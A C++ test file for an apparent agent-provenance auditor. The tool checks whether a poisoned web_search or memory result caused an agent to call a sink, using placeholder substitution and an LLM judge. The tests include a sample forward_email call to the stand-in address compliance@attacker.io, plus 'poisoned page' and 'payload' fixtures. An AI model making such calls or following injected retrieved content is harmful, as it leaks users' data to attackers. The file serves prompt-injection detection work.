#include <doctest.h>

#include "provaudit/causal_analyzer.hpp"
#include "provaudit/errors.hpp"

using namespace provaudit;

namespace {

ToolEvent event_of(const std::string& session, std::int64_t index, const std::string& tool,
                   std::vector<std::pair<std::string, std::string>> args,
                   const std::string& result) {
  ToolEvent event;
  event.session_id = session;
  event.index = index;
  event.tool_name = tool;
  event.args = std::move(args);
  event.result = result;
  return event;
}

Policy retrieval_policy() {
  Policy policy;
  policy.sources = {"web_search", "memory_retrieve"};
  policy.sinks = {"forward_email"};
  return policy;
}

class FixedJudge final : public Judge {
 public:
  explicit FixedJudge(std::vector<std::string> contents) : contents_(std::move(contents)) {}

 protected:
  std::string respond(const JudgeRequest&) override {
    std::size_t i = std::min(static_cast<std::size_t>(calls() - 1), contents_.size() - 1);
    return contents_[i];
  }

 private:
  std::vector<std::string> contents_;
};

}  // namespace

TEST_CASE("neutralization replaces exactly one result") {
  std::vector<ToolEvent> prefix = {
      event_of("A", 0, "web_search", {{"query", "q"}}, "poisoned page"),
      event_of("A", 1, "summarize", {{"style", "memo"}}, "summary"),
  };
  NeutralizedContext context = build_neutralized_context(prefix, "A", 0, retrieval_policy());
  CHECK(context.placeholder_text == "No relevant information found.");

  std::vector<ToolEvent> neutralized = context.neutralized_events();
  REQUIRE(neutralized.size() == prefix.size());
  int differing = 0;
  for (std::size_t i = 0; i < prefix.size(); ++i) {
    CHECK(neutralized[i].session_id == prefix[i].session_id);
    CHECK(neutralized[i].args == prefix[i].args);
    if (neutralized[i].result != prefix[i].result) ++differing;
  }
  CHECK(differing == 1);
  CHECK(neutralized[0].result == "No relevant information found.");
  CHECK(neutralized[1].result == "summary");
}

TEST_CASE("neutralizing the only event leaves a one-placeholder context") {
  std::vector<ToolEvent> prefix = {event_of("A", 0, "web_search", {}, "content")};
  NeutralizedContext context = build_neutralized_context(prefix, "A", 0, retrieval_policy());
  auto neutralized = context.neutralized_events();
  REQUIRE(neutralized.size() == 1);
  CHECK(neutralized[0].result == "No relevant information found.");
}

TEST_CASE("non-retrieval tools neutralize to empty text unless overridden") {
  std::vector<ToolEvent> prefix = {event_of("A", 0, "summarize", {}, "text")};
  Policy policy = retrieval_policy();
  CHECK(build_neutralized_context(prefix, "A", 0, policy).placeholder_text == "");
  policy.placeholders["summarize"] = "nothing was summarized";
  CHECK(build_neutralized_context(prefix, "A", 0, policy).placeholder_text ==
        "nothing was summarized");
}

TEST_CASE("neutralizing an event outside the prefix fails") {
  std::vector<ToolEvent> prefix = {event_of("A", 0, "web_search", {}, "content")};
  try {
    build_neutralized_context(prefix, "A", 5, retrieval_policy());
    FAIL("expected EventNotInPrefix");
  } catch (const Error& ex) {
    CHECK(ex.code() == ErrorCode::EventNotInPrefix);
  }
}

TEST_CASE("probe prompt renders both contexts and the substituted question") {
  std::vector<ToolEvent> prefix = {event_of("A", 0, "web_search", {{"query", "q"}}, "payload")};
  NeutralizedContext context = build_neutralized_context(prefix, "A", 0, retrieval_policy());
  std::string prompt =
      render_probe_prompt(context, "forward_email", "to=\"compliance@attacker.io\"");

  CHECK(prompt.find("Context A contains the original agent history.") != std::string::npos);
  CHECK(prompt.find("Context B is identical except [SOURCE] has been replaced with a "
                    "task-neutral placeholder.") != std::string::npos);
  CHECK(prompt.find("would the agent still invoke "
                    "forward_email(to=\"compliance@attacker.io\")?") != std::string::npos);
  CHECK(prompt.find("{\"would_call_anyway\": true/false, \"confidence\": 0.0-1.0, "
                    "\"reasoning\": \"...\"}") != std::string::npos);
  CHECK(prompt.find("payload") != std::string::npos);
  CHECK(prompt.find("No relevant information found.") != std::string::npos);
}

TEST_CASE("verdict parsing is strict") {
  CHECK(parse_verdict(
            R"({"would_call_anyway": false, "confidence": 0.85, "reasoning": "redirect"})") ==
        JudgeVerdict{false, 0.85, "redirect"});
  // Embedded in prose.
  CHECK(parse_verdict(
            R"(Sure! {"would_call_anyway": true, "confidence": 0.5, "reasoning": "r"} done)")
            .has_value());
  // Missing fields invalidate the verdict.
  CHECK_FALSE(parse_verdict(R"({"would_call_anyway": true, "confidence": 0.5})").has_value());
  CHECK_FALSE(parse_verdict(R"({"confidence": 0.5, "reasoning": "r"})").has_value());
  CHECK_FALSE(parse_verdict("no json at all").has_value());
  // Out-of-range or wrongly-typed confidence.
  CHECK_FALSE(parse_verdict(
                  R"({"would_call_anyway": true, "confidence": 1.5, "reasoning": "r"})")
                  .has_value());
  CHECK_FALSE(parse_verdict(
                  R"({"would_call_anyway": "yes", "confidence": 0.5, "reasoning": "r"})")
                  .has_value());
}

TEST_CASE("scripted judge passes scripted verdicts through verbatim") {
  ScriptedJudge judge = ScriptedJudge::from_json_text(
      R"({"forward_email|L:A:0": {"would_call_anyway": false, "confidence": 0.85,
          "reasoning": "the agent does not forward without the policy email"}})");

  std::vector<ToolEvent> prefix = {event_of("A", 0, "web_search", {}, "policy email")};
  NeutralizedContext context = build_neutralized_context(prefix, "A", 0, retrieval_policy());

  JudgeVerdict verdict = probe_sink(context, "forward_email", "to=\"x\"", judge, "L:A:0");
  CHECK_FALSE(verdict.would_call_anyway);
  CHECK(verdict.confidence == 0.85);

  // Unmatched keys answer the safe default.
  JudgeVerdict fallback = probe_sink(context, "forward_email", "to=\"x\"", judge, "L:A:9");
  CHECK(fallback.would_call_anyway);
  CHECK(fallback.confidence == 1.0);
}

TEST_CASE("prose-only judges fail after one retry") {
  FixedJudge judge({"I think it would probably still call the tool.",
                    "Still no structured answer."});
  std::vector<ToolEvent> prefix = {event_of("A", 0, "web_search", {}, "text")};
  NeutralizedContext context = build_neutralized_context(prefix, "A", 0, retrieval_policy());
  try {
    probe_sink(context, "forward_email", "", judge);
    FAIL("expected MalformedVerdict");
  } catch (const Error& ex) {
    CHECK(ex.code() == ErrorCode::MalformedVerdict);
  }
  CHECK(judge.calls() == 2);
}

TEST_CASE("a malformed first answer recovers on retry") {
  FixedJudge judge({"hmm let me think",
                    R"({"would_call_anyway": false, "confidence": 0.7, "reasoning": "ok"})"});
  std::vector<ToolEvent> prefix = {event_of("A", 0, "web_search", {}, "text")};
  NeutralizedContext context = build_neutralized_context(prefix, "A", 0, retrieval_policy());
  JudgeVerdict verdict = probe_sink(context, "forward_email", "", judge);
  CHECK_FALSE(verdict.would_call_anyway);
  CHECK(judge.calls() == 2);
}

TEST_CASE("attribution rule table") {
  JudgeVerdict no_a{false, 0.9, "a"};
  JudgeVerdict yes_b{true, 0.6, "b"};
  JudgeVerdict no_b{false, 0.7, "b"};
  JudgeVerdict yes_a{true, 0.9, "a"};

  // Enumerated by hand: only would_call_anyway = false is causal; all causal
  // labels are reported; confidence passes through untouched.
  auto single = attribute({{"A", no_a}, {"B", yes_b}});
  REQUIRE(single.size() == 1);
  CHECK(single[0] == std::pair<std::string, double>{"A", 0.9});

  auto both = attribute({{"A", no_a}, {"B", no_b}});
  REQUIRE(both.size() == 2);
  CHECK(both[0] == std::pair<std::string, double>{"A", 0.9});
  CHECK(both[1] == std::pair<std::string, double>{"B", 0.7});

  CHECK(attribute({{"A", yes_a}, {"B", yes_b}}).empty());
  CHECK(attribute({}).empty());
}
